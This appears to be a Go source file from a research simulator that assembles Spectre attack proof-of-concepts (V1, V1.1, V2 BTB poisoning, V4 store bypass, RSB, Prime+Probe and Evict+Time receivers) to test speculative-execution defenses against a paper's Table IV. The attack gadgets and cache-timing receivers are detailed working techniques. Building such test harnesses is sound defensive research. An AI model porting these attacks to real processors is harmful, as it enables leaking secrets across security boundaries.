package attack

import (
	"conspec/internal/asm"
	"conspec/internal/config"
	"conspec/internal/isa"
)

// Table IV row names.
const (
	ClassFlushReloadShared = "Flush+Reload, share data"
	ClassFlushFlushShared  = "Flush+Flush, share data"
	ClassEvictReloadShared = "Evict+Reload, share data"
	ClassPrimeProbeShared  = "Prime+Probe, share data"
	ClassPrimeProbePrivate = "Prime+Probe, no shared data"
	ClassEvictTimePrivate  = "Evict+Time, no shared data"
)

// scenarios is every attack by name, in Table IV order followed by the
// extra variant coverage (V2, V4). Each name is the Name its builder gives
// the harness (TestScenarioNames).
var scenarios = []struct {
	name  string
	build func(config.Core) *Harness
}{
	{"spectre-v1/flush+reload", V1FlushReload},
	{"spectre-v1/flush+flush", V1FlushFlush},
	{"spectre-v1/evict+reload", V1EvictReload},
	{"spectre-prime/prime+probe", SpectrePrime},
	{"v1-samepage/prime+probe", PrimeProbeNonShared},
	{"v1-samepage/evict+time", EvictTimeNonShared},
	{"spectre-v2/flush+reload", V2FlushReload},
	{"spectre-v4/flush+reload", V4FlushReload},
	{"spectre-v1.1/flush+reload", V11FlushReload},
	{"spectre-rsb/flush+reload", RSBFlushReload},
}

// Scenarios builds every attack for the given core configuration, in
// ScenarioNames order.
func Scenarios(cfg config.Core) []*Harness {
	hs := make([]*Harness, len(scenarios))
	for i, s := range scenarios {
		hs[i] = s.build(cfg)
	}
	return hs
}

// ScenarioNames lists every attack's name, in Table IV order followed by
// the extra variant coverage (V2, V4), without building any.
func ScenarioNames() []string {
	names := make([]string, len(scenarios))
	for i, s := range scenarios {
		names[i] = s.name
	}
	return names
}

// ByName builds the named scenario, and only that one.
func ByName(cfg config.Core, name string) (*Harness, bool) {
	for _, s := range scenarios {
		if s.name == name {
			return s.build(cfg), true
		}
	}
	return nil, false
}

func mustProg(b *asm.Builder) *asm.Program { return b.MustAssemble(codeBase) }

// V1FlushReload is the canonical Spectre V1 PoC: bounds-check bypass
// transmitting through a shared, page-strided probe array read back with
// Flush+Reload.
func V1FlushReload(cfg config.Core) *Harness {
	b := asm.New()
	b.Jmp("main")
	emitV1Gadget(b, pageShift)
	b.Bind("main")
	emitProloguePointers(b, array2Addr)
	emitOuterLoop(b, len(defaultSecret), func() {
		emitTrainV1(b, "v1fr", 4)
		emitFlushTransmission(b, "v1fr", pageShift)
		emitFlushBound(b)
		emitTriggerV1(b, "v1fr")
		emitProbeFlushReload(b, "v1fr", pageShift)
		emitStoreResult(b)
	})
	return &Harness{
		Name: "spectre-v1/flush+reload", Class: ClassFlushReloadShared,
		SharedMemory: true, Variant: "V1",
		Prog: mustProg(b), Secret: defaultSecret,
		seed:    seedCommon(defaultSecret),
		prewarm: []uint64{secretAddr},
	}
}

// V1FlushFlush swaps the receiver for Flush+Flush: the probe times CLFLUSH
// itself (flushing a present line is slower) and never reloads, leaving no
// footprint of its own.
func V1FlushFlush(cfg config.Core) *Harness {
	b := asm.New()
	b.Jmp("main")
	emitV1Gadget(b, pageShift)
	b.Bind("main")
	emitProloguePointers(b, array2Addr)
	emitOuterLoop(b, len(defaultSecret), func() {
		emitTrainV1(b, "v1ff", 4)
		emitFlushTransmission(b, "v1ff", pageShift)
		emitFlushBound(b)
		emitTriggerV1(b, "v1ff")
		emitProbeFlushFlush(b, "v1ff", pageShift)
		emitStoreResult(b)
	})
	return &Harness{
		Name: "spectre-v1/flush+flush", Class: ClassFlushFlushShared,
		SharedMemory: true, Variant: "V1",
		Prog: mustProg(b), Secret: defaultSecret,
		seed:    seedCommon(defaultSecret),
		prewarm: []uint64{secretAddr},
	}
}

// V1EvictReload evicts the probe lines with the attacker's own conflict
// buffer instead of CLFLUSH (the receiver for environments without a flush
// instruction), then reloads with timing.
func V1EvictReload(cfg config.Core) *Harness {
	sets := cfg.Mem.L1DSize / (cfg.Mem.L1DWays * cfg.Mem.LineBytes)
	b := asm.New()
	b.Jmp("main")
	emitV1Gadget(b, pageShift)
	b.Bind("main")
	emitProloguePointers(b, array2Addr)
	emitOuterLoop(b, len(defaultSecret), func() {
		emitTrainV1(b, "v1er", 4)
		emitEvictTransmission(b, "v1er", pageShift, sets, cfg.Mem.L1DWays)
		// The eviction sweep may have displaced the victim's secret line;
		// the victim touches its own secret again (it uses it routinely).
		b.Add(asm.T2, rA1, rDelta)
		b.Ld1(asm.T3, asm.T2, 0)
		emitFlushBound(b)
		emitTriggerV1(b, "v1er")
		emitProbeFlushReload(b, "v1er", pageShift)
		emitStoreResult(b)
	})
	return &Harness{
		Name: "spectre-v1/evict+reload", Class: ClassEvictReloadShared,
		SharedMemory: true, Variant: "V1",
		Prog: mustProg(b), Secret: defaultSecret,
		seed:    seedCommon(defaultSecret),
		prewarm: []uint64{secretAddr},
	}
}

// SpectrePrime is the Prime+Probe-over-shared-data variant: the V1 gadget
// transmits at line granularity into the shared probe page and the attacker
// reads the signal out of its own primed conflict lines.
func SpectrePrime(cfg config.Core) *Harness {
	sets := cfg.Mem.L1DSize / (cfg.Mem.L1DWays * cfg.Mem.LineBytes)
	b := asm.New()
	b.Jmp("main")
	emitV1Gadget(b, setShift)
	b.Bind("main")
	emitProloguePointers(b, array2Addr)
	emitOuterLoop(b, len(defaultSecret), func() {
		emitTrainV1(b, "sp", 4)
		emitPrime(b, "sp", sets, cfg.Mem.L1DWays)
		emitFlushBound(b)
		emitTriggerV1(b, "sp")
		emitProbePrime(b, "sp", sets, cfg.Mem.L1DWays)
		emitStoreResult(b)
	})
	return &Harness{
		Name: "spectre-prime/prime+probe", Class: ClassPrimeProbeShared,
		SharedMemory: true, Variant: "SpectrePrime",
		Prog: mustProg(b), Secret: defaultSecret,
		seed:    seedCommon(defaultSecret),
		prewarm: []uint64{secretAddr},
	}
}

// PrimeProbeNonShared transmits INTO THE SECRET'S OWN PAGE at line
// granularity — no shared memory anywhere — and receives with Prime+Probe.
// Because instruction A (the secret read) and instruction B (the transmit)
// touch the same physical page, the S-Pattern never forms and the TPBuf
// filter cannot block it: this is Table IV's first ✗ row.
func PrimeProbeNonShared(cfg config.Core) *Harness {
	sets := cfg.Mem.L1DSize / (cfg.Mem.L1DWays * cfg.Mem.LineBytes)
	b := asm.New()
	b.Jmp("main")
	emitV1Gadget(b, setShift)
	b.Bind("main")
	emitProloguePointers(b, secretAddr) // transmission base = the secret page
	emitOuterLoop(b, len(defaultSecret), func() {
		emitTrainV1(b, "ppn", 4)
		emitPrime(b, "ppn", sets, cfg.Mem.L1DWays)
		emitFlushBound(b)
		emitTriggerV1(b, "ppn")
		emitProbePrime(b, "ppn", sets, cfg.Mem.L1DWays)
		emitStoreResult(b)
	})
	return &Harness{
		Name: "v1-samepage/prime+probe", Class: ClassPrimeProbePrivate,
		SharedMemory: false, Variant: "V1",
		Prog: mustProg(b), Secret: defaultSecret,
		seed:    seedCommon(defaultSecret),
		prewarm: []uint64{secretAddr},
	}
}

// EvictTimeNonShared uses the same same-page transmitter but receives by
// timing whole victim invocations after evicting one candidate set per
// round — the Evict+Time receiver. Like Prime+Probe without sharing, it
// escapes the S-Pattern (Table IV's second ✗ row).
func EvictTimeNonShared(cfg config.Core) *Harness {
	sets := cfg.Mem.L1DSize / (cfg.Mem.L1DWays * cfg.Mem.LineBytes)
	b := asm.New()
	b.Jmp("main")
	emitV1Gadget(b, setShift)
	b.Bind("main")
	emitProloguePointers(b, secretAddr)
	emitOuterLoop(b, len(defaultSecret), func() {
		emitTrainV1(b, "et", 2)
		b.Li(rBestLat, 1<<30)
		b.Li(rBestVal, 0)
		b.Li(rGuess, 1)
		b.Bind("et_loop")
		emitEvictTimeRound(b, "et", sets, cfg.Mem.L1DWays) // latency -> T4
		b.Bgeu(asm.T4, rBestLat, "et_next")
		b.Add(rBestLat, asm.T4, asm.Zero)
		b.Add(rBestVal, rGuess, asm.Zero)
		b.Bind("et_next")
		b.Addi(rGuess, rGuess, 1)
		b.Li(rTmpB, probeEntries)
		b.Blt(rGuess, rTmpB, "et_loop")
		emitStoreResult(b)
	})
	return &Harness{
		Name: "v1-samepage/evict+time", Class: ClassEvictTimePrivate,
		SharedMemory: false, Variant: "V1",
		Prog: mustProg(b), Secret: defaultSecret,
		seed:    seedCommon(defaultSecret),
		prewarm: []uint64{secretAddr},
	}
}

// V11FlushReload is Spectre V1.1 (Kiriansky & Waldspurger): the
// branch-guarded instruction is a speculative STORE that plants a pointer
// to the secret in a slot the gadget then dereferences — store-to-load
// forwarding carries the attacker's planted address to the load inside the
// same speculation window. The paper groups V1.x under the Flush+Reload
// shared-data row; all three mechanisms must stop it.
func V11FlushReload(cfg config.Core) *Harness {
	b := asm.New()
	b.Jmp("main")

	// Gadget: if (x < bound) { slot = array1+x (OOB: attacker-chosen);
	//   *slot = &secret; p = *slotHome; v = *p; transmit(v); }
	// slotHome is a fixed victim pointer slot the store overwrites when x
	// is out of bounds. A4 carries the planted pointer (the secret's
	// address) in this register-level PoC; real V1.1 computes it in the
	// window the same way.
	b.Bind("gadget")
	b.Ld(rTmpA, rBound, 0)
	b.Bgeu(asm.A0, rTmpA, "gadget_out")
	b.Add(rTmpB, rA1, asm.A0) // OOB target: &slotHome when x = slotDelta
	b.St(asm.A4, rTmpB, 0)    // speculative store plants &secret[i]
	b.Add(asm.T2, rA1, asm.Zero)
	b.Ld(asm.T3, asm.T2, int32(slotHomeOff)) // forwarded from the STQ
	b.Ld1(asm.T4, asm.T3, 0)                 // A: dereference -> secret byte
	b.Shli(asm.T5, asm.T4, pageShift)
	b.Add(asm.T5, rA2, asm.T5)
	b.Ld1(asm.T6, asm.T5, 0) // B: transmission
	b.Bind("gadget_out")
	b.Ret()

	b.Bind("main")
	emitProloguePointers(b, array2Addr)
	emitOuterLoop(b, len(defaultSecret), func() {
		emitTrainV1(b, "v11", 4)
		emitFlushTransmission(b, "v11", pageShift)
		emitFlushBound(b)
		emitGHRNormalize(b, "v11_trig")
		// Plant: A4 = &secret[byteIdx]; x = slotHomeOff (out of bounds).
		b.Add(asm.A4, rA1, rDelta)
		b.Add(asm.A4, asm.A4, rByteIdx)
		b.Li(asm.A0, int32(slotHomeOff))
		b.Jal(asm.RA, "gadget")
		b.Fence()
		emitProbeFlushReload(b, "v11", pageShift)
		emitStoreResult(b)
	})
	return &Harness{
		Name: "spectre-v1.1/flush+reload", Class: ClassFlushReloadShared,
		SharedMemory: true, Variant: "V1.1",
		Prog: mustProg(b), Secret: defaultSecret,
		seed: func(m *isa.FlatMem) {
			seedCommon(defaultSecret)(m)
			// slotHome initially points at benign in-bounds data.
			m.Write(array1Addr+slotHomeOff, 8, array1Addr)
		},
		prewarm: []uint64{secretAddr, array1Addr + slotHomeOff},
	}
}

// slotHomeOff places the victim's pointer slot past the in-bounds region of
// array1 (so overwriting it requires the bounds-check bypass).
const slotHomeOff = 512

// V2FlushReload poisons the BTB through an attacker branch that aliases the
// victim's indirect call, steering speculation into a leak gadget while the
// real target (a benign function) is still being fetched from memory.
func V2FlushReload(cfg config.Core) *Harness {
	b := asm.New()
	b.Jmp("main")

	// The leak gadget: a straight-line V2 payload (no bounds check).
	// Returns through S6, the inner-call link register.
	b.Bind("v2gadget")
	b.Add(rTmpB, rA1, asm.A0)
	b.Ld1(asm.T2, rTmpB, 0) // A: array1[x] — the secret when x is OOB
	b.Shli(asm.T3, asm.T2, pageShift)
	b.Add(asm.T4, rA2, asm.T3)
	b.Ld1(asm.T5, asm.T4, 0) // B: transmission
	b.Jalr(asm.Zero, asm.S6, 0)

	// The victim's legitimate indirect-call target.
	b.Bind("benign")
	b.Jalr(asm.Zero, asm.S6, 0)

	// The victim: loads its function pointer (flushed by the attacker, so
	// the indirect jump waits on memory) and calls through it.
	b.Bind("victim")
	b.Ld(asm.T6, rFptr, 0)
	victimJalrIdx := b.Len()
	b.Jalr(asm.S6, asm.T6, 0)
	b.Ret()

	b.Bind("main")
	emitProloguePointers(b, array2Addr)
	b.Li64(rFptr, fptrAddr)
	emitOuterLoop(b, len(defaultSecret), func() {
		// Train: four calls through the aliasing trainer branch.
		for i := 0; i < 4; i++ {
			b.Li(asm.A0, 0)
			b.Jal(asm.RA, "trainer")
		}
		emitFlushTransmission(b, "v2", pageShift)
		b.Clflush(rFptr, 0) // delay the indirect jump's target load
		b.Fence()
		b.Add(asm.A0, rDelta, rByteIdx) // attacker-controlled argument
		b.Jal(asm.RA, "victim")
		b.Fence()
		emitProbeFlushReload(b, "v2", pageShift)
		emitStoreResult(b)
	})

	// The trainer lives exactly BTBEntries instruction slots after the
	// victim's indirect jump, so the untagged BTB cannot tell them apart.
	b.Bind("trainer")
	b.LiAddr(asm.T6, "v2gadget")
	b.PadTo(victimJalrIdx + cfg.Predictor.BTBEntries)
	b.Jalr(asm.S6, asm.T6, 0) // aliases the victim's BTB entry
	b.Ret()

	h := &Harness{
		Name: "spectre-v2/flush+reload", Class: ClassFlushReloadShared,
		SharedMemory: true, Variant: "V2",
		Prog: mustProg(b), Secret: defaultSecret,
		prewarm: []uint64{secretAddr},
	}
	benign := h.Prog.Symbols["benign"]
	h.seed = func(m *isa.FlatMem) {
		seedCommon(defaultSecret)(m)
		m.Write(fptrAddr, 8, benign)
	}
	return h
}

// V4FlushReload exploits speculative store bypass: the victim overwrites
// its slot with a benign value through a store whose address depends on a
// flushed word, and the younger reload speculatively reads the STALE secret
// and transmits it before the memory-order violation squashes everything.
func V4FlushReload(cfg config.Core) *Harness {
	b := asm.New()
	b.Jmp("main")

	b.Bind("victim4")
	b.Ld(rTmpA, rShifty, 0)           // flushed: the store's address is late
	b.Add(rTmpB, rSlot, rTmpA)        // rTmpA == 0, so rTmpB == slot
	b.St1(asm.Zero, rTmpB, 0)         // store benign 0 over the slot
	b.Ld1(asm.T2, rSlot, 0)           // speculates past the store: stale secret
	b.Shli(asm.T3, asm.T2, pageShift) //
	b.Add(asm.T4, rA2, asm.T3)        //
	b.Ld1(asm.T5, asm.T4, 0)          // B: transmission
	b.Ret()

	b.Bind("main")
	emitProloguePointers(b, array2Addr)
	b.Li64(rSlot, slotAddr)
	b.Li64(rShifty, shiftyAddr)
	b.Add(asm.T6, rA1, rDelta) // T6 = secretAddr
	emitOuterLoop(b, len(defaultSecret), func() {
		// The victim refreshes its slot with the secret byte (its private
		// working value) before the attacker-influenced overwrite runs.
		b.Add(asm.T2, asm.T6, rByteIdx)
		b.Ld1(asm.T3, asm.T2, 0)
		b.St1(asm.T3, rSlot, 0)
		b.Fence()
		emitFlushTransmission(b, "v4", pageShift)
		b.Clflush(rShifty, 0)
		b.Fence()
		b.Jal(asm.RA, "victim4")
		b.Fence()
		emitProbeFlushReload(b, "v4", pageShift)
		emitStoreResult(b)
	})
	return &Harness{
		Name: "spectre-v4/flush+reload", Class: ClassFlushReloadShared,
		SharedMemory: true, Variant: "V4",
		Prog: mustProg(b), Secret: defaultSecret,
		seed:    seedCommon(defaultSecret),
		prewarm: []uint64{secretAddr},
	}
}

// V1TLBChannel is the V1 attack with a receiver that times raw reloads —
// DTLB walk included. The cache filters discard a suspect miss only AFTER
// translating it (the TPBuf needs the PPN), so the secret's page walk is
// already saved and the prober reads it as a ~30-cycle difference. This is
// the channel DESIGN.md §8 documents; the DTLBFilter extension closes it.
// It is NOT part of the paper's Table IV.
func V1TLBChannel(cfg config.Core) *Harness {
	b := asm.New()
	b.Jmp("main")
	emitV1Gadget(b, pageShift)
	b.Bind("main")
	emitProloguePointers(b, array2Addr)
	emitOuterLoop(b, len(defaultSecret), func() {
		emitTrainV1(b, "vtlb", 4)
		emitFlushTransmission(b, "vtlb", pageShift)
		emitFlushBound(b)
		emitTriggerV1(b, "vtlb")
		emitProbeFlushReloadRaw(b, "vtlb", pageShift)
		emitStoreResult(b)
	})
	return &Harness{
		Name: "spectre-v1/tlb-channel", Class: "DTLB refill (extension)",
		SharedMemory: true, Variant: "V1",
		Prog: mustProg(b), Secret: defaultSecret,
		seed:    seedCommon(defaultSecret),
		prewarm: []uint64{secretAddr},
	}
}

// RSBFlushReload is the Spectre-RSB / ret2spec variant (the paper's
// reference [35], "Spectre Returns!"): the victim function spills its
// return address to memory and reloads it before returning; the attacker
// flushes the spill slot, so the RET's target register arrives late and the
// return address stack predicts a return to the ORIGINAL call site — where
// the attacker has arranged a disclosure gadget to sit. The actual return
// address (redirected to a benign path) squashes everything, but the
// gadget's transmission has already fired.
func RSBFlushReload(cfg config.Core) *Harness {
	const stackSlot = 0x6A_0000
	b := asm.New()
	b.Jmp("main")

	// The victim function: spill RA, do its work, reload RA (slow when the
	// attacker flushed the slot), return. The attacker's in-process
	// "corruption" redirects the stored RA to the benign path.
	b.Bind("victim_fn")
	b.Li64(asm.S5, stackSlot)
	b.St(asm.RA, asm.S5, 0) // spill
	// (victim work would be here)
	b.LiAddr(asm.T6, "benign_path")
	b.St(asm.T6, asm.S5, 0) // the "overwritten" return address
	b.Clflush(asm.S5, 0)    // attacker-controlled eviction of the slot
	b.Fence()
	b.Ld(asm.RA, asm.S5, 0) // reload: misses to memory
	b.Ret()                 // RAS predicts the original call site below

	b.Bind("main")
	emitProloguePointers(b, array2Addr)
	emitOuterLoop(b, len(defaultSecret), func() {
		emitFlushTransmission(b, "rsb", pageShift)
		// A0 = &secret[i] - array1 style index for the gadget below.
		b.Add(asm.A0, rDelta, rByteIdx)
		b.Jal(asm.RA, "victim_fn")
		// The disclosure gadget sits AT the call's return point: it runs
		// only speculatively (the architectural return goes elsewhere).
		b.Add(rTmpB, rA1, asm.A0)
		b.Ld1(asm.T2, rTmpB, 0) // A: the secret
		b.Shli(asm.T3, asm.T2, pageShift)
		b.Add(asm.T4, rA2, asm.T3)
		b.Ld1(asm.T5, asm.T4, 0) // B: transmission
		b.Bind("benign_path")
		b.Fence()
		emitProbeFlushReload(b, "rsb", pageShift)
		emitStoreResult(b)
	})
	return &Harness{
		Name: "spectre-rsb/flush+reload", Class: ClassFlushReloadShared,
		SharedMemory: true, Variant: "RSB",
		Prog: mustProg(b), Secret: defaultSecret,
		seed:    seedCommon(defaultSecret),
		prewarm: []uint64{secretAddr},
	}
}
